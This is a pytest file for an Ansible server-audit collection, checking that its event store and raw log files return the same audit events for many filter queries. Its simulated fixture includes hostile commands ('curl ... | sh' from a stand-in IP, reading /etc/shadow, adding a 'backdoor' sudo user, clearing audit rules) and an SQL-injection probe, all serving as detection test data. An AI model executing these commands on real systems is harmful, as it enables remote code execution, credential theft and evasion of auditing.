"""The same questions asked of the event store, filled live by the processor, and of the
stored files, read as audit_report reads them: the same events, field for field, from each
backend that answers questions (SQLite, and ClickHouse on Debian's 18.16 server and on a
current release through chdb)."""

from __future__ import annotations

import json
import os

import pytest

from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    iter_events,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.report import (
    EventFilter,
    build_report,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._processor.processor import (
    Processor,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._processor.rebuild import (
    rebuild,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._store.backends import (
    open_store,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._store.base import (
    Ruleset,
)
from tests.support.audit_records import (
    evtsys,
    exec_records,
    file_records,
    split_stamp_records,
    stored,
)
from ansible_collections.whotouched.server_audit.plugins.modules import audit_report
from tests.support.event_store import processor_config
from tests.support.module_main import run_main
from tests.support.clickhouse import CLICKHOUSE_ENGINES, new_database

T0 = 1700000000
HEALTH = ("type=USER msg=audit(%d.000:%d): pid=726 uid=0 auid=4294967295 ses=4294967295 "
          "msg='op=whotouched-audit-health lost=%d lost_total=%d since=1699999700.000 "
          "backlog=0 backlog_limit=8192 backlog_wait_time=60000 logging_suspended=no "
          "plugin_overflow=no res=success'")

# (host, address, login, uid, session, argv, key): a day on three servers
COMMANDS = [
    ("web01", "192.0.2.10", "alice", 1000, 3, ["ls", "-l", "/var/www"], "exec"),
    ("web01", "192.0.2.10", "alice", 1000, 3, ["sudo", "systemctl", "restart", "nginx"], "exec"),
    ("web01", "192.0.2.10", "mallory", 1001, 7, ["cat", "/etc/shadow"], "exec"),
    ("web01", "192.0.2.10", "mallory", 1001, 7, ["useradd", "-G", "sudo", "backdoor"],
     "exec\x01identity"),
    ("web02", "192.0.2.11", "alice", 1000, 3, ["tail", "-f", "/var/log/syslog"], "exec"),
    ("db01", "192.0.2.20", "bob", 1002, 12, ["psql", "-c", "SELECT 1"], "exec"),
    ("db01", "192.0.2.20", "bob", 1002, 12, ["auditctl", "-D"], "exec"),
    ("db01", "192.0.2.20", "mallory", 1001, 13,
     ["sh", "-c", "curl -s http://203.0.113.9/x | sh", "\x1b[2J\u202eGRÖSSE"], "exec"),
    ("web02", "192.0.2.11", "bob", 1002, 5, ["crontab", "-l"], None),
]


def log_lines():
    """The stored lines of a day on three servers, one file's worth per sender."""
    files = {}
    for serial, (host, address, login, uid, session, argv, key) in enumerate(COMMANDS, 1):
        lines = exec_records(argv, serial=serial, epoch="%d.%03d" % (T0 + serial * 600, serial),
                             auid=uid, login_name=login, ses=session, key=key)
        files.setdefault(address, []).extend(stored(lines, host=host, address=address))
    files["192.0.2.10"] += stored(file_records("/etc/sudoers", serial=90,
                                               epoch="%d.500" % (T0 + 7000)),
                                  host="web01", address="192.0.2.10")
    files["192.0.2.11"] += stored(split_stamp_records("%d.500" % (T0 + 5000), 95), host="web02",
                                  address="192.0.2.11")
    files["192.0.2.20"] += stored([HEALTH % (T0 + 8000, 91, 0, 3), HEALTH % (T0 + 8300, 92, 5, 8)],
                                  host="db01", address="192.0.2.20")
    files["192.0.2.20"] += ["Nov 14 22:13:20 db01 192.0.2.20 type=SYSCALL garbage \x00\x1b",
                            "not a line at all"]
    files["192.0.2.30"] = [
        evtsys(4720, "A user account was created. Subject: Account Name: dave New Account: "
                     "Account Name: backdoor", address="192.0.2.30"),
        evtsys(4625, "An account failed to log on. Account For Which Logon Failed: Account "
                     "Name: alice Source Network Address: 198.51.100.7", success=False,
               address="192.0.2.30"),
        # a name of more than ASCII: a pattern's ? is one character, not one byte
        evtsys(4720, "A user account was created. Subject: Account Name: dave New Account: "
                     "Account Name: j\u00fcrgen", address="192.0.2.30")]
    return files


@pytest.fixture(scope="module", params=("sqlite",) + CLICKHOUSE_ENGINES)
def sources(request, tmp_path_factory):
    """The stored files, and the store the processor filled from the same lines."""
    work = tmp_path_factory.mktemp("questions")
    store = {} if request.param == "sqlite" else new_database(
        request.getfixturevalue(request.param))
    config = processor_config(work, store=store)
    paths = []
    processor = Processor(config, workers=[], log=lambda _message: None)
    for address, lines in sorted(log_lines().items()):
        path = work / "remote" / address / ("windows.log" if address == "192.0.2.30"
                                            else "audit.log")
        path.parent.mkdir(parents=True)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        paths.append(str(path))
        for line in lines:
            assert processor.handle_line(line)
    processor.close()
    (work / "processor.json").write_text(json.dumps(config), encoding="utf-8")
    store = open_store(config["store"], readonly=True)
    yield paths, store
    store.close()


QUESTIONS = [
    {},
    {"since": T0 + 1800, "until": T0 + 4200},
    {"since": T0 + 10 ** 6},
    {"host": "web01"},
    {"host": "web*"},
    {"host": "192.0.2.2?"},
    {"host": "*0[12]"},
    {"host": "[!w]*"},
    {"host": "DC01"},
    {"host": "192.0.2.20"},
    {"user": "mallory"},
    {"user": "ali*"},
    {"user": "root"},
    {"user": "backdoor"},
    {"user": "j?rgen"},
    {"user": "j[\u00fc]rgen"},
    {"user": "j[!a-z]rgen"},
    {"user": "*\u00fc*"},
    {"user": "j??rgen"},
    {"user": "j\u00fcrgen"},
    {"user": "mallory' OR 1 = 1 --"},
    {"min_level": "medium"},
    {"min_level": "high"},
    {"min_level": "critical", "host": "db*"},
    {"key": "exec"},
    {"key": "identity"},
    {"key": "passwd"},
    {"search": "shadow"},
    {"search": "SHADOW"},
    {"search": "grösse"},
    {"search": "| sh"},
    {"search": "/e"},
    {"search": "c"},
    {"search": "alice"},
    {"session": 7, "host": "web01"},
    {"session": 3},
    {"host": "web02", "since": T0 + 4900, "until": T0 + 5100},
    {"user": "alice", "since": T0, "until": T0 + 3600, "min_level": "low"},
]


@pytest.mark.parametrize("question", QUESTIONS, ids=[repr(question) for question in QUESTIONS])
def test_the_store_and_the_files_give_the_same_events(sources, question):
    paths, store = sources
    rules = Ruleset.load()
    from_files, file_counts = build_report(paths, rules.rules, EventFilter(**question), limit=0)
    from_store, store_counts = store.find(EventFilter(**question), rules, 0)
    assert from_store == from_files
    assert store_counts["matched"] == file_counts["matched"] == len(from_files)


# db01's heartbeat at T0 + 8000 said nothing was lost (its report at T0 + 8300 is a loss)
HEARTBEAT_QUESTIONS = [({}, 1), ({"host": "db01"}, 1), ({"host": "192.0.2.20"}, 1),
                       ({"host": "db*"}, 1), ({"host": "web01"}, 0), ({"since": T0 + 8200}, 0),
                       ({"until": T0 + 8200}, 1),
                       ({"host": "db0?", "since": T0 + 7900, "until": T0 + 8100}, 1),
                       ({"host": "db0?", "since": T0 + 8200, "until": T0 + 8400}, 0)]


@pytest.mark.parametrize("question, heartbeats", HEARTBEAT_QUESTIONS,
                         ids=[repr(question) for question, _count in HEARTBEAT_QUESTIONS])
def test_the_store_and_the_files_count_the_heartbeats_in_the_questions_time_and_senders(
        sources, question, heartbeats):
    """Read through an index of their own: the time and sender filters still apply; the file
    scan counts the same (a silent host never looks alive through another's heartbeats)."""
    paths, store = sources
    _events, counts = store.find(EventFilter(**question), Ruleset.load(), 0)
    assert counts["health_reports"] == heartbeats
    _events, counts = build_report(paths, Ruleset.load().rules, EventFilter(**question), limit=0)
    assert counts["health_reports"] == heartbeats
    status, result = run_main(audit_report, dict(path=os.path.dirname(os.path.dirname(paths[0])),
                                                 source="files", view="sessions", **question))
    assert status == 0 and result["counts"]["health_reports"] == heartbeats, result


def test_the_questions_are_not_all_answered_alike(sources):
    """The table above asks questions whose answers differ (it could not pass by accident)."""
    paths, _store = sources
    rules = Ruleset.load()
    answers = {tuple(event["serial"] or 0 for event in build_report(
        paths, rules.rules, EventFilter(**question), limit=0)[0]) for question in QUESTIONS}
    assert len(answers) > 15


def test_with_a_limit_the_store_gives_the_newest_events(sources):
    _paths, store = sources
    events, counts = store.find(EventFilter(), Ruleset.load(), 3)
    everything, _counts = store.find(EventFilter(), Ruleset.load(), 0)
    assert events == sorted(everything, key=lambda event: event["epoch"] or 0)[-3:]
    # the heartbeat that said nothing was lost (the other report is a loss event)
    assert counts == {"matched": len(everything), "count_stopped": False, "truncated": True,
                      "health_reports": 1}


SEARCHES = [question for question in QUESTIONS if "search" in question]


@pytest.mark.parametrize("question", SEARCHES, ids=[repr(question) for question in SEARCHES])
@pytest.mark.parametrize("limit", [1, 2, 3])
def test_a_search_with_a_limit_gives_the_newest_matches_and_counts_them_all(
        sources, question, limit):
    paths, store = sources
    rules = Ruleset.load()
    everything, _counts = build_report(paths, rules.rules, EventFilter(**question), limit=0)
    from_files, file_counts = build_report(paths, rules.rules, EventFilter(**question),
                                           limit=limit)
    events, counts = store.find(EventFilter(**question), rules, limit)
    assert events == from_files == everything[-limit:]
    assert counts["matched"] == file_counts["matched"] == len(everything)
    assert counts["truncated"] == (len(everything) > limit)


@pytest.mark.parametrize("question", QUESTIONS, ids=[repr(question) for question in QUESTIONS])
def test_counted_to_a_limit_the_store_gives_the_same_newest_events(sources, question):
    """count_limit stops the count, never changes the events given: with the processor's rules
    and with other rules (each event classified again)."""
    _paths, store = sources
    ours = {"id": "ours", "level": "high", "reason": "ls", "match": {"program": "ls"}}
    for rules in (Ruleset.load(), Ruleset.load([ours])):
        everything, _counts = store.find(EventFilter(**question), rules, 0)
        for limit, count_limit in ((1, 1), (1, 2), (2, 1), (3, 3), (1, 0)):
            events, counts = store.find(EventFilter(**question), rules, limit, count_limit)
            counting = max(limit, count_limit) if count_limit else 0
            stopped = bool(counting) and len(everything) > counting
            assert events == everything[-limit:], (limit, count_limit)
            assert (counts["matched"], counts["count_stopped"], counts["truncated"]) == (
                counting if stopped else len(everything), stopped, len(everything) > limit)


def test_audit_report_counts_to_count_limit_from_the_store(sources):
    paths, _store = sources
    work = os.path.dirname(os.path.dirname(os.path.dirname(paths[0])))
    results = {}
    for count_limit in (0, 2):
        status, result = run_main(audit_report, dict(
            store_config=os.path.join(work, "processor.json"), source="store", limit=1,
            count_limit=count_limit))
        assert status == 0, result
        results[count_limit] = result
    assert results[0]["events"] == results[2]["events"] and len(results[0]["events"]) == 1
    assert results[0]["counts"]["matched"] > 2 and not results[0]["counts"]["count_stopped"]
    assert results[2]["counts"]["matched"] == 2 and results[2]["counts"]["count_stopped"]
    status, result = run_main(audit_report, dict(
        store_config=os.path.join(work, "processor.json"), count_limit=-1))
    assert status == 1 and result["msg"] == (
        "count_limit must be 0 (all events) or a positive number of events, got -1")


def test_audit_report_asks_the_store_and_gives_what_the_files_give(sources):
    """The module itself, on the log server: its store (of the processor's configuration)
    and its files, the same options, the same events."""
    paths, _store = sources
    work = os.path.dirname(os.path.dirname(os.path.dirname(paths[0])))
    answers = {}
    for source, args in (("store", {"store_config": os.path.join(work, "processor.json")}),
                         ("files", {"path": os.path.join(work, "remote")})):
        status, result = run_main(audit_report, dict(args, source=source, host="*0[12]",
                                                     min_level="low", limit=0))
        assert status == 0 and result["source"] == source, result
        answers[source] = result["events"]
    assert answers["store"] == answers["files"] and len(answers["store"]) > 3


@pytest.mark.parametrize("backend", ("sqlite", "jsonl") + CLICKHOUSE_ENGINES)
def test_an_event_of_the_time_and_serial_of_one_stored_is_no_copy_of_it(
        request, tmp_path, backend):
    """A user-space record written during a system call shares that call's time and serial:
    with the first event stored (a batch committed between the two, a processor restarted),
    the second is still new to the store, and copies of the first are not."""
    service_start, syscall = iter_events(stored(split_stamp_records("%d.500" % T0, 95), host="web02",
                                                address="192.0.2.11"))
    settings = processor_config(tmp_path)["store"]
    if backend == "jsonl":
        settings = dict(settings, backend="jsonl", path=str(tmp_path / "events.jsonl"))
    elif backend != "sqlite":
        settings = dict(settings, **new_database(request.getfixturevalue(backend)))
    store = open_store(settings)
    try:
        store.add(service_start, T0, Ruleset.load().fingerprint)
        store.commit(None)
        assert store.known([syscall, dict(service_start), service_start]) == {1, 2}
    finally:
        store.close()


def test_a_rebuild_from_the_files_stores_no_event_the_processor_stored(sources):
    paths, store = sources
    question = EventFilter(host="web02", since=T0 + 4900, until=T0 + 5100)
    found, _counts = store.find(question, Ruleset.load(), 0)
    assert [event["record_types"] for event in found] == [
        ["SERVICE_START"], ["SYSCALL", "SOCKADDR"]]
    work = os.path.dirname(os.path.dirname(os.path.dirname(paths[0])))
    with open(os.path.join(work, "processor.json"), encoding="utf-8") as handle:
        writer = open_store(json.load(handle)["store"])
    try:
        counts = rebuild(writer, paths, Ruleset.load())
    finally:
        writer.close()
    everything, stored_counts = store.find(EventFilter(), Ruleset.load(), 0)
    assert (counts["stored"], counts["already_stored"]) == (0, counts["events"])
    assert counts["events"] == len(everything) + stored_counts["health_reports"]
